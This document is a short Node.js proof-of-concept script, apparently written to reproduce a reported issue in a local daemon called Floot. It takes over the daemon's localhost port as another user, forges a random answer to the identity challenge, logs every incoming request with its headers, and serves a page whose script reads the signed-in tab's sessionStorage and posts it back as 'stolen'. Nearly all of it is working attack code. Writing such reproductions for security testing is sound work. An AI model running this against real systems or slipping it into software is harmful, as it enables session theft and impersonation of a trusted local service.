// Issue 12's taken-port attack, run as another local user (uid 65534): bind the dead daemon's port and
// serve whatever a signed-in tab asks for there. An identity challenge gets a made-up answer (the real
// one needs daemon.key); every request is reported; any other page reads the tab's sessionStorage (it
// runs in the daemon's origin now) and posts it back. Node builtins only.
import { randomBytes } from "node:crypto";
import { createServer } from "node:http";

const port = Number(process.argv[2]);
const say = (line) => process.stdout.write(`${JSON.stringify(line)}\n`);

const page = `<!doctype html><html><head><meta charset="utf-8"><title>Floot</title></head><body><h1>Floot</h1>
<script>
fetch("/report", { method: "POST", body: JSON.stringify({ ...sessionStorage }) });
</script></body></html>`;

const server = createServer((req, res) => {
  let body = "";
  req.on("data", (chunk) => {
    body += chunk;
  });
  req.on("end", () => {
    say({ seen: { method: req.method, url: req.url, headers: req.headers, body } });
    if (req.url === "/report" && req.method === "POST") {
      say({ stolen: JSON.parse(body) });
      res.end("ok");
    } else if (req.url === "/ui/identity" && req.method === "POST") {
      res.writeHead(200, { "content-type": "application/json" });
      res.end(JSON.stringify({ proof: randomBytes(32).toString("base64url") }));
    } else if (req.url.startsWith("/v1/")) {
      res.writeHead(503, { "content-type": "application/json" });
      res.end('{"error":{"code":"unavailable","message":"later"}}');
    } else {
      res.writeHead(200, { "content-type": "text/html; charset=utf-8" });
      res.end(page);
    }
  });
});
server.listen(port, "127.0.0.1", () => say({ listening: server.address().port, uid: process.getuid() }));
